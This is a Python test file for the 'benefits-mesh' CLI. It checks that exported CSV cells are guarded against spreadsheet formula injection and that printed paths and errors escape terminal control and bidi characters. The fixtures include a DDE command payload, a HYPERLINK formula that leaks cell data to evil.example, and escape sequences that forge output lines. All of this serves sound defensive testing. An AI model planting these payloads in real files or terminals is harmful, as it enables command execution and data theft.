"""`benefits-mesh export` neutralises spreadsheet formulas in CSV text cells (OWASP CSV
injection) and the CLI escapes outside text it prints (file names, paths, error messages).

The export cases build a real warehouse with `sqlmesh plan` through the real CLI, then run the
real `benefits-mesh export` and read its files back with the csv module and DuckDB.
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest
from conftest import Project

from benefits_mesh.text import printable
from benefits_mesh.warehouse import export_marts

BIN = Path(sys.executable).parent
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MARTS = (
    "account_summary",
    "dim_companies",
    "dim_employees",
    "fct_claims",
    "fct_claims_cost_spikes",
    "fct_employee_roster_mismatches",
    "fct_load_accounting",
    "fct_plan_gaps",
)  # the trace views (marts.trace_*) are not exported: the parquet test checks every file written
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'

LOOKUP = [
    {
        "ein": "12-3456789",
        "company_name": "=cmd|' /C calc'!A0",
        "domains": ["example.com"],
        "industry": "+Tech",
        "expected_headcount": 10,
        "state": "NY",
    }
]
EMPLOYEES = [
    ["person_id", "full_name", "email", "title", "company_ein", "start_date", "notes"],
    ["P1", "=1+2", "p1@example.com", "+SUM(A1:A9)", "12-3456789", "2026-01-01", "dept: -Sales"],
    ["P2", "@Bob", "p2@example.com", "-Manager", "12-3456789", "2026-01-01", "dept=@Ops"],
    ["P3", "\tTabby", "p3@example.com", "\t=1+1", "12-3456789", "2026-01-01", "dept: =SUM(1)"],
    ["P4", "-Minus", "p4@example.com", HYPERLINK, "12-3456789", "2026-01-01", "\t@note"],
    ["P5", "Ana María 中", "p5@example.com", "Engineer", "12-3456789", "2026-01-01", "dept: R&D"],
]
PLANS = [
    ["plan_id", "company_ein", "plan_type", "carrier_name", "start_date", "end_date"],
    ["PL1", "12-3456789", "medical", HYPERLINK, "2025-01-01", "2025-06-30"],
    ["PL2", "12-3456789", "medical", "+Aetna Plus", "2025-08-01", ""],
]


def _write_csv(path: Path, rows: list[list[str]]) -> None:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)


def _read_csv(path: Path) -> tuple[list[str], list[list[str]]]:
    with open(path, newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle, strict=True))
    return header, rows


def _cli(project, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(BIN / "benefits-mesh"), *args],
        cwd=project.root.parent,
        env=project.env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def _raw_controls(text: str) -> set[str]:
    """Control / bidi characters in printed output, line breaks between lines excepted."""
    return {
        ch
        for ch in text.replace("\n", "")
        if ord(ch) < 0x20
        or 0x7F <= ord(ch) < 0xA0
        or 0x202A <= ord(ch) <= 0x202E
        or 0x2066 <= ord(ch) <= 0x2069
    }


def _guarded_text(value, kind: str) -> str:
    """What the guarded CSV must hold for a warehouse value of that column type."""
    text = _as_csv_text(value)
    return "'" + text if kind == "VARCHAR" and text.startswith(FORMULA_STARTS) else text


def _as_csv_text(value) -> str:
    """How DuckDB's CSV writer spells a value read back by the csv module (dates ISO)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


# --------------------------------------------------------------------------- printable (unit)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("claims_2026-01-05.csv", "claims_2026-01-05.csv"),
        ("a\nb", "a\\nb"),
        ("a\rb\tc", "a\\rb\\tc"),
        ("\x1b[2J\x1b]0;title\x07", "\\x1b[2J\\x1b]0;title\\x07"),
        ("\x00\x08\x7f", "\\x00\\x08\\x7f"),
        ("\x85\x9b31m\x9f", "\\x85\\x9b31m\\x9f"),
        ("evil\u202efdp.exe", "evil\\u202efdp.exe"),
        ("\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069", None),
        ("line\u2028sep\u2029", "line\\u2028sep\\u2029"),
        ("Zoë Ĳ 中文 😀 – €", "Zoë Ĳ 中文 😀 – €"),
        ("\xa0non-breaking\xa0", "\xa0non-breaking\xa0"),
    ],
)
def test_printable_escapes_controls_and_keeps_unicode(raw, shown):
    result = printable(raw)
    if shown is not None:
        assert result == shown
    assert not _raw_controls(result)
    assert "\n" not in result
    assert result.isprintable() or "\xa0" in result


def test_printable_takes_any_object():
    assert printable(Path("/tmp/a\nb")) == "/tmp/a\\nb"
    assert printable(FileNotFoundError("x\x1by")) == "x\\x1by"
    assert printable(None) == "None"
    assert printable(3) == "3"


def test_printable_covers_every_c0_c1_and_bidi_character():
    dangerous = [*range(0x20), 0x7F, *range(0x80, 0xA0), *range(0x202A, 0x202F)]
    dangerous += range(0x2066, 0x206A)
    for code in dangerous:
        result = printable(f"a{chr(code)}b")
        assert chr(code) not in result, hex(code)
        assert result.startswith("a\\") and result.endswith("b"), (hex(code), result)


# ---------------------------------------------------------------- export_marts (real DuckDB)


def test_export_marts_guards_text_columns_only(tmp_path):
    """export_marts on a real DuckDB file with marts of every column kind."""
    db = tmp_path / "wh.duckdb"
    with duckdb.connect(str(db)) as con:
        con.execute("CREATE SCHEMA marts")
        con.execute(
            """CREATE TABLE marts.t AS SELECT * FROM (VALUES
              ('=1+2', -5.00::DECIMAL(10, 2), -3::BIGINT, DATE '2026-01-02', -1.5::DOUBLE),
              ('+x', 1.25, 4, DATE '2026-02-03', 2.0),
              ('-y', -0.01, -1, NULL, NULL),
              ('@z', 0, 0, DATE '2025-12-31', 0),
              (CHR(9) || 'tab', 7, 7, DATE '2026-01-01', 7),
              (CHR(13) || 'cr', 8, 8, DATE '2026-01-01', 8),
              ('plain', 9, 9, DATE '2026-01-01', 9),
              ('a=b', 10, 10, DATE '2026-01-01', 10),
              ('''quoted', 11, 11, DATE '2026-01-01', 11),
              ('', 12, 12, DATE '2026-01-01', 12),
              (NULL, 13, 13, DATE '2026-01-01', 13)
            ) AS v("we""ird name", amount, delta, day, ratio)"""
        )
        con.execute('CREATE VIEW marts.v AS SELECT \'-\' || "we""ird name" AS txt FROM marts.t')
        raw = con.execute("SELECT * FROM marts.t ORDER BY ALL").fetchall()

    with duckdb.connect(str(db), read_only=True) as con:
        logged: list[str] = []
        written = export_marts(con, tmp_path / "out", formats=("csv", "parquet"), log=logged.append)
        export_marts(con, tmp_path / "plain", log=logged.append, formula_guard=False)

    assert [p.name for p in written] == ["t.csv", "t.parquet", "v.csv", "v.parquet"]
    assert logged[0] == f"[1/2] marts.t -> {tmp_path / 'out' / 't.csv'} (11 rows)"
    assert len(logged) == 6

    header, guarded = _read_csv(tmp_path / "out" / "t.csv")
    assert header == ['we"ird name', "amount", "delta", "day", "ratio"]
    assert [row[0] for row in guarded] == [
        "",  # the empty string
        "'\ttab",
        "'\rcr",
        "'quoted",
        "'+x",
        "'-y",
        "'=1+2",
        "'@z",
        "a=b",
        "plain",
        "",  # NULL last
    ]
    # numbers and dates as they are, including negatives; the same row order as the raw data
    assert [row[1:] for row in guarded] == [[_as_csv_text(v) for v in row[1:]] for row in raw]
    assert guarded[6][1:] == ["-5.00", "-3", "2026-01-02", "-1.5"]

    _, plain = _read_csv(tmp_path / "plain" / "t.csv")
    assert plain == [[_as_csv_text(v) for v in row] for row in raw]

    with duckdb.connect() as con:
        parquet = con.execute(
            f"SELECT * FROM read_parquet('{(tmp_path / 'out' / 't.parquet').as_posix()}')"
        ).fetchall()
        view = con.execute(
            f"SELECT * FROM read_parquet('{(tmp_path / 'out' / 'v.parquet').as_posix()}')"
        ).fetchall()
    assert parquet == raw
    assert all(value is None or value.startswith("-") for (value,) in view)

    _, view_csv = _read_csv(tmp_path / "out" / "v.csv")
    # a NULL in a one-column CSV is an empty line (no fields); every text starts with '-
    assert sorted(row[0] for row in view_csv if row) == sorted(
        "'-" + v for (v, *_) in raw if v is not None
    )


# ------------------------------------------------------------- the real CLI, real warehouse


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory, faketime):
    """A warehouse built by `sqlmesh plan` from formula-looking names, titles, notes, carriers
    and lookup values (run on 2026-01-08: a week of daily intervals)."""
    base = tmp_path_factory.mktemp("export")
    root = base / "root"
    (root / "reference").mkdir(parents=True)
    (root / "reference" / "company_lookup.json").write_text(json.dumps(LOOKUP), encoding="utf-8")
    project = Project(root=root, warehouse=base / "wh" / "warehouse.duckdb")
    project.clock = "2026-01-08 06:00:00"
    for source in ("employees", "plans", "claims"):
        project.landing(source)
    _write_csv(project.landing("employees") / "employees_2026-01-05.csv", EMPLOYEES)
    _write_csv(project.landing("plans") / "plans_2026-01-05.csv", PLANS)
    project.plan()
    return project


def _marts(project) -> dict[str, tuple[list[tuple[str, str]], list[tuple]]]:
    """{mart: ([(column, type)], rows ordered by every column)} straight from the warehouse."""
    found = {}
    for name in MARTS:
        columns = [row[:2] for row in project.query(f"DESCRIBE SELECT * FROM marts.{name}")]
        found[name] = (columns, project.query(f"SELECT * FROM marts.{name} ORDER BY ALL"))
    return found


def test_export_csv_guards_formula_cells_through_the_cli(warehouse, tmp_path):
    out = tmp_path / "guarded"
    result = _cli(warehouse, "export", "--out", str(out))
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines == [
        f"[{i}/{len(MARTS)}] marts.{name} -> {out / name}.csv ({len(rows):,} rows)"
        for i, (name, (_, rows)) in enumerate(_marts(warehouse).items(), start=1)
    ]

    marts = _marts(warehouse)
    guarded_cells = 0
    for name, (columns, rows) in marts.items():
        header, exported = _read_csv(out / f"{name}.csv")
        assert header == [column for column, _ in columns]
        assert len(exported) == len(rows), name
        for raw_row, row in zip(rows, exported, strict=True):
            for (column, kind), raw, cell in zip(columns, raw_row, row, strict=True):
                assert cell == _guarded_text(raw, kind), (name, column, kind, raw, cell)
                guarded_cells += cell != _as_csv_text(raw)
    assert guarded_cells >= 12

    def column(name: str, col: str) -> list[str]:
        header, exported = _read_csv(out / f"{name}.csv")
        return [row[header.index(col)] for row in exported]

    # the values as delivered (after the contract's text normalisation), now inert
    assert sorted(column("dim_employees", "full_name")) == sorted(
        ["'=1+2", "'@Bob", "Tabby", "'-Minus", "Ana María 中"]
    )
    assert "'" + HYPERLINK in column("dim_employees", "title")
    assert {"'+SUM(A1:A9)", "'-Manager", "'=1+1"} <= set(column("dim_employees", "title"))
    assert {"'-Sales", "'@Ops", "'=SUM(1)"} <= set(column("dim_employees", "dept"))
    assert column("dim_companies", "company_name") == ["'=cmd|' /C calc'!A0"]
    assert column("dim_companies", "industry") == ["'+Tech"]
    carriers = column("fct_plan_gaps", "carrier_before") + column("fct_plan_gaps", "carrier_after")
    assert len(carriers) == 2 and all(c.startswith(("'=", "'+")) for c in carriers), carriers
    assert carriers[0].lower() == "'" + HYPERLINK.lower()
    # numbers stay numbers: 5 employees against 10 expected
    assert column("fct_employee_roster_mismatches", "diff") == ["-5"]
    assert column("fct_employee_roster_mismatches", "pct_diff") == ["-50.0000"]
    assert column("fct_plan_gaps", "gap_start") == ["2025-07-01"]


def test_export_no_formula_guard_and_parquet_keep_raw_values(warehouse, tmp_path):
    plain, both = tmp_path / "plain", tmp_path / "both"
    result = _cli(warehouse, "export", "--out", str(plain), "--no-formula-guard")
    assert result.returncode == 0, result.stderr
    result = _cli(warehouse, "export", "--out", str(both), "--format", "both")
    assert result.returncode == 0, result.stderr
    assert len(result.stdout.splitlines()) == 2 * len(MARTS)

    for name, (columns, rows) in _marts(warehouse).items():
        header, exported = _read_csv(plain / f"{name}.csv")
        assert header == [column for column, _ in columns]
        assert exported == [[_as_csv_text(value) for value in row] for row in rows], name
        with duckdb.connect() as con:
            parquet = con.execute(
                f"SELECT * FROM read_parquet('{(both / name).as_posix()}.parquet')"
            ).fetchall()
        assert parquet == rows, name
        # --format both guards its CSV all the same
        _, guarded = _read_csv(both / f"{name}.csv")
        kinds = [kind for _, kind in columns]
        assert guarded == [
            [_guarded_text(value, kind) for value, kind in zip(row, kinds, strict=True)]
            for row in rows
        ], name
    _, employees = _read_csv(both / "dim_employees.csv")
    assert any(cell == "'=1+2" for row in employees for cell in row)


def test_export_help_documents_the_switch(project):
    result = _cli(project, "export", "--help")
    assert result.returncode == 0
    assert "--no-formula-guard" in result.stdout
    assert "formula" in result.stdout.lower()


# -------------------------------------------------------------------- escaping via the CLI


def test_freshness_escapes_a_landing_file_name(project, faketime):
    """A landing file whose name carries ESC sequences, a bidi override and a newline that
    would forge a status line. Wherever freshness names it, it is escaped on its own line
    (whether freshness counts such a name is landing's business, not this test's)."""
    project.clock = "2026-01-08 06:00:00"
    forged = "ok     claims     newest claims_2026-01-07.csv  age 1.0 h"
    name = f"employees_\x1b[2J\x1b[31m\n{forged}\r\u202e_2026-01-07.csv"
    (project.landing("employees") / name).write_text(
        "person_id,full_name,email,title,company_ein,start_date,notes\n", encoding="utf-8"
    )
    result = subprocess.run(
        ["faketime", project.clock, str(BIN / "benefits-mesh"), "freshness"],
        cwd=project.root.parent,
        env=project.env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    output = result.stdout + result.stderr
    assert result.returncode == 2, output  # plans and claims have no file
    assert not _raw_controls(output), repr(output)
    if "employees_" in output:
        assert printable(name) in output
    # one status line per source; the forged "ok claims" line is not among them
    status = [line.split() for line in result.stdout.splitlines()]
    status = [words for words in status if words and words[0] in ("ok", "warn", "error")]
    assert sorted(words[1] for words in status) == ["claims", "employees", "plans"], output
    assert [words[0] for words in status if words[1] == "claims"] == ["error"], output


def test_generate_and_deliver_print_paths_escaped(project, tmp_path):
    """`generate` and `deliver` print the files they write under a root whose name holds a
    terminal escape and a newline: one escaped path per line."""
    root = tmp_path / "root\x1b[8m\n\u2066hidden"
    args = ["--companies", "1", "--employees", "5", "--claims-per-day", "5", "--days", "2"]
    result = _cli(project, "generate", "--out", str(root), *args)
    assert result.returncode == 0, result.stderr
    assert not _raw_controls(result.stdout + result.stderr), repr(result.stdout)
    result = _cli(project, "deliver", "--out", str(root), "--quiet")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines, result.stderr  # the next day's files (plans do not come every day)
    assert not _raw_controls(result.stdout)
    shown = printable(root)
    assert shown == str(root).replace("\x1b", "\\x1b").replace("\n", "\\n").replace(
        "\u2066", "\\u2066"
    )
    assert all(line.startswith(shown + "/landing/") for line in lines), lines
    written = sorted(str(p) for p in (root / "landing").rglob("*_2026-03-04.csv"))
    assert sorted(lines) == sorted(printable(p) for p in written)


def test_error_messages_escape_paths(project, tmp_path):
    """main()'s error line and deliver's error line quote the path escaped, on one line."""
    bad = tmp_path / "wh\x1b[31m\nbenefits-mesh: all good"
    project.extra_env = {"BENEFITS_WAREHOUSE": str(bad / "benefits.duckdb")}
    result = _cli(project, "summary")
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1, repr(result.stderr)
    assert not _raw_controls(result.stderr)
    assert "wh\\x1b[31m\\nbenefits-mesh: all good" in result.stderr
    assert result.stderr.startswith("benefits-mesh: warehouse ")

    result = _cli(project, "export", "--out", str(tmp_path / "out"))
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and not _raw_controls(result.stderr)

    root = tmp_path / "root\r\n\x9b2J"
    root.mkdir()
    result = _cli(project, "deliver", "--out", str(root))
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1, repr(result.stderr)
    assert not _raw_controls(result.stderr)
    assert "root\\r\\n\\x9b2J" in result.stderr
    assert "Traceback" not in result.stderr


def test_export_progress_lines_escape_the_output_path(warehouse, tmp_path):
    out = tmp_path / "out\x1b]0;pwned\x07\nmarts"
    result = _cli(warehouse, "export", "--out", str(out), "--format", "parquet")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == len(MARTS)
    assert not _raw_controls(result.stdout)
    assert all("out\\x1b]0;pwned\\x07\\nmarts" in line for line in lines)
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{m}.parquet" for m in MARTS)
